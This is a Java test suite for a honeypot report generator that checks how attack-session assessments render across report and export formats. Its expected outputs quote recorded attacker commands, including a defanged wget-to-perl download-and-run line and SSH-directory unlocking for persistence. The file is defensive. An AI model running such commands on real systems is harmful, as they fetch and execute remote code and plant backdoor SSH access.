package io.github.cowriekit.report;

import static io.github.cowriekit.report.fixtures.WrittenReports.write;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.github.cowriekit.json.SessionJson;
import io.github.cowriekit.model.assessment.Assessment;
import io.github.cowriekit.model.assessment.Origin;
import io.github.cowriekit.model.assessment.history.ClusterLink;
import io.github.cowriekit.model.assessment.history.HistoryScope;
import io.github.cowriekit.model.assessment.technique.Techniques;
import io.github.cowriekit.model.intel.EnrichedSession;
import io.github.cowriekit.model.intel.Observable;
import io.github.cowriekit.model.intel.SubjectView;
import io.github.cowriekit.report.fixtures.Assessed;
import io.github.cowriekit.report.fixtures.Diary;
import io.github.cowriekit.report.fixtures.EvilSessions;
import io.github.cowriekit.report.fixtures.ExportFixtures;
import io.github.cowriekit.report.fixtures.Grammars;
import io.github.cowriekit.report.fixtures.WrittenReports;
import java.io.IOException;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** What formats show of assessments. */
class AssessedFormatsTest {
    private static final ObjectMapper JSON = new ObjectMapper();

    @Test
    void openTheBlockOfTheDiary() {
        assertThat(write(Reports.diary(), Assessed.diary().subList(0, 1)))
                .startsWith("""
                fd5ac84ee8f9   2023-05-24 06:23:58Z  ssh  10.4 s
                Who            likely automated (score -2.5): commands without a terminal · client plain
                Known          outlaw-mdrfckr · tool echo-xsec · 01ba4719c80b… is one newline
                From           142.93.64.69  US  AS14061 DIGITALOCEAN-ASN
                Infrastructure hosting (spur), perhaps residential-proxy (spur)
                Got in         root / Admin123$
                Did            19 commands (1 failed), came as far as persistence
                               persistence: T1098.004 SSH Authorized Keys
                Left           authorized_keys  a8460f446be5…  21 of 21 engines, trojan.shell/linux (virustotal)
                               hosts.deny  01ba4719c80b…
                Unusual        45 of 100: no scanner knows a file: plain
                Seen before    7 before from 3 addresses since 2023-05-20, the same commands: outlaw-mdrfckr
                No answer      not listed: urlhaus (client, file), virustotal

                                       Session  fd5ac84ee8f9
                """)
                .contains("""
                            Total Commands Run  19 (1 failed)
                                       Verdict  likely automated (score -2.5)
                """);
    }

    @Test
    void nameTheTwinInTheDiary() {
        String text = write(Reports.diary(), Assessed.diary().subList(0, 2));
        assertThat(text).containsOnlyOnce("same commands: fd5ac84ee8f9 (10.40 s)\n");
    }

    @Test
    void changeNothingInTheDiaryButTheirLines() {
        String lines = "(?m)^(?:Who|Known|Did|Unusual|Seen before| {14}| *Verdict) .*\n";
        assertThat(write(Reports.diary(), Assessed.diary()).replaceAll(lines, ""))
                .isEqualTo(write(Reports.diary(), Diary.sessions()).replaceAll(lines, ""));
    }

    @Test
    void keepFiveLinesInTheBriefDiary() {
        String text =
                write(Reports.diary().summary(false).brief(), Assessed.diary().subList(0, 1));
        assertThat(text.stripTrailing().lines())
                .hasSize(5)
                .first()
                .isEqualTo("fd5ac84ee8f9  ssh  10.40 s  likely automated");
    }

    @Test
    void fillColumnsOfTheTable() {
        List<String> lines =
                write(Reports.csv(), Assessed.diary().subList(0, 1)).lines().toList();
        assertThat(lines.get(0))
                .endsWith(",network_kind,verdict,interest,techniques,campaigns,tools,cluster,attack_version");
        assertThat(lines.get(1))
                .endsWith(",hosting,likely automated,45,T1098.004,outlaw-mdrfckr,echo-xsec,outlaw-mdrfckr,"
                        + Techniques.ATTACK_VERSION);
        assertThat(write(Reports.csv(), Diary.sessions().subList(0, 1))).endsWith(",hosting,,,,,,,\r\n");
    }

    @Test
    void areRowsInMarkdown() {
        assertThat(write(Reports.markdown(), Assessed.diary().subList(0, 1)))
                .contains("| Verdict | likely automated (score -2.5) |\n");
    }

    @Test
    void areCountedInTheSummaryWithTheMostUnusualSessionsFirst() {
        List<Assessment> sessions = List.of(
                Assessed.of(Diary.datacenter(), "x", 20),
                Assessed.of(Diary.vpn(), "x", 60),
                Assessed.of(Diary.perlBot(), "x", 20));
        assertThat(write(Reports.summary(), sessions))
                .contains("""
                Verdicts
                --------
                         3  likely automated
                """, """
                What Is Unusual
                ---------------
                        60  909bea239054  43.154.116.34  likely automated  no scanner knows a file: x
                            # cd ~; chattr -ia .ssh; lockr -ia .ssh
                        20  fd5ac84ee8f9  142.93.64.69  likely automated  no scanner knows a file: x
                            # cd ~; chattr -ia .ssh; lockr -ia .ssh
                        20  8d39860bce79  45.79.54.105  likely automated  no scanner knows a file: x
                            # wget -qO - 103[.]52[.]134[.]51/csx/perlNIK|perl
                  why, of all sessions:
                         3  unknown-file
                """, "         3  T1098.004 Account Manipulation: SSH Authorized Keys\n")
                .contains("Techniques (ATT&CK " + Techniques.ATTACK_VERSION + ")\n");
        assertThat(write(Reports.summary(), Diary.sessions())).doesNotContain("Verdicts", "What Is Unusual");
    }

    @Test
    void areInThePageWithTheirEvidence() {
        WrittenReports.PageSession first = WrittenReports.pageSessions(
                        write(Reports.html(), Assessed.diary().subList(0, 1)))
                .get(0);
        assertThat(first.data()
                        .get("verdicts")
                        .get(first.get("verdict").asInt())
                        .asText())
                .isEqualTo("likely automated");
        assertThat(first.get("interest").asInt()).isEqualTo(45);
        assertThat(first.get("evidence"))
                .extracting(row -> row.get(0).asDouble() + " " + first.text(row.get(1)))
                .containsExactly(
                        "-2.5 commands without a terminal", "-1.5 client plain", "0.8 first command after 1.25 s");
        assertThat(first.text("did")).isEqualTo("outlaw-mdrfckr");
    }

    @Test
    void areInSessionJsonAndAreNoHindranceToReadingIt() throws IOException {
        Assessment assessment = Assessed.diary().get(0);
        String line = SessionJson.toJson(assessment);
        JsonNode written = JSON.readTree(line).get("assessment");
        assertThat(written.at("/operator/verdict").asText()).isEqualTo("likely-automated");
        assertThat(written.at("/operator/score").asDouble()).isEqualTo(-2.5);
        assertThat(written.at("/operator/evidence/2/id").asText()).isEqualTo("C3");
        assertThat(written.at("/operator/unavailable/0").asText()).isEqualTo("K1");
        assertThat(written.at("/interest").asInt()).isEqualTo(45);
        assertThat(written.at("/severity").asInt()).isZero();
        assertThat(SessionJson.read(line)).isEqualTo(assessment.enriched());
    }

    @Test
    void giveExportsTheirTechniques() {
        for (String name : List.of("cef", "ecs", "navigator", "ocsf", "stix", "misp")) {
            assertThat(write(Reports.format(name), Assessed.diary())).as(name).contains("T1098.004");
            assertThat(write(Reports.format(name), Diary.sessions())).as(name).doesNotContain("T1098.004");
        }
    }

    @Test
    void giveExportsTheirOneInterest() {
        Assessment ordinary = Assessed.of(Diary.perlBot(), "x", 0);
        Assessment odd = Assessed.of(Diary.perlBot(), "x", 70);
        assertThat(ExportOptions.all().interestOf(ordinary)).isZero();
        assertThat(ExportOptions.all().interestOf(odd)).isEqualTo(70);
        assertThat(ExportOptions.all().interestOf(Diary.perlBot())).isEqualTo(100);
        assertThat(write(Reports.ecs(), List.of(odd))).contains("\"risk_score\":70");
        assertThat(write(Reports.cef(), List.of(odd))).contains("|7|", "cn3=70");
        assertThat(write(Reports.ocsf(), List.of(odd))).contains("\"interest\":70");
    }

    @Test
    void shareWhatBroughtFilesHoweverOrdinary() {
        Assessment ordinary = Assessed.of(Diary.perlBot(), "x", 0);
        assertThat(ExportOptions.sharing().holds(ordinary)).isTrue();
        assertThat(ExportOptions.sharing().minInterest(1).holds(ordinary)).isFalse();
        assertThat(ExportOptions.sharing().only(any -> false).holds(ordinary)).isFalse();
        assertThat(ExportOptions.sharing()
                        .holds(EnrichedSession.of(
                                ExportFixtures.session("scan", "45.79.54.105").build())))
                .isFalse();
    }

    @Test
    void sayWhatBeforeMeans() {
        Assessment known = Assessed.diary().get(0);
        Assessment alone = Assessment.builder(known.enriched(), known.operator(), known.origin())
                .cluster(new ClusterLink("c-1", ClusterLink.Reason.NEW, "1", 0, 0, null, null))
                .history(known.history())
                .build();
        Assessment fresh = Assessment.builder(known.enriched(), known.operator(), known.origin())
                .cluster(alone.cluster())
                .history(new HistoryScope(5, null, false, false))
                .build();
        Assessment again = Assessment.builder(known.enriched(), known.operator(), known.origin())
                .cluster(known.cluster())
                .history(new HistoryScope(1_200, null, true, true))
                .build();

        assertThat(write(Reports.diary(), List.of(alone)))
                .contains("Seen before    not before in 1,200 sessions since 2023-05-20\n");
        assertThat(write(Reports.diary(), List.of(fresh))).contains("Seen before    not before in this input\n");
        assertThat(write(Reports.diary(), List.of(again))).contains("Seen before    7 others from 3 addresses since");
    }

    @Test
    void sayThatNobodyWasAskedAboutTheNetwork() {
        Assessment known = Assessed.diary().get(0);
        Origin unsaid =
                new Origin(SubjectView.of(Observable.ip("45.79.54.105"), List.of()), List.of(), null, List.of());
        EnrichedSession unasked = EnrichedSession.of(known.session());

        assertThat(write(
                        Reports.diary(),
                        List.of(Assessment.builder(unasked, known.operator(), unsaid)
                                .build())))
                .contains("Infrastructure unknown (no list or source was asked; see lists)\n");
    }

    static List<ReportFormat> formats() {
        return Reports.formats();
    }

    @ParameterizedTest
    @MethodSource("formats")
    @Tag("slow")
    void stayInTheGrammarWhateverTheyRepeat(ReportFormat format) {
        Grammars.Bounded bounded = Objects.requireNonNull(Grammars.byFormat().get(format.name()));
        Map<String, String> payloads = EvilSessions.payloads();
        EvilSessions.byName().forEach((name, session) -> {
            Assessment evil = Assessed.of(session, payloads.getOrDefault(name, "x".repeat(100_000)));
            String text = write(format, List.of(evil));
            assertThat(text.length()).as(name).isLessThanOrEqualTo(bounded.bytesPerSession());
            try {
                bounded.grammar().check(text, List.of(session));
            } catch (AssertionError e) {
                throw new AssertionError("session '" + name + "': " + e.getMessage(), e);
            }
        });
    }
}
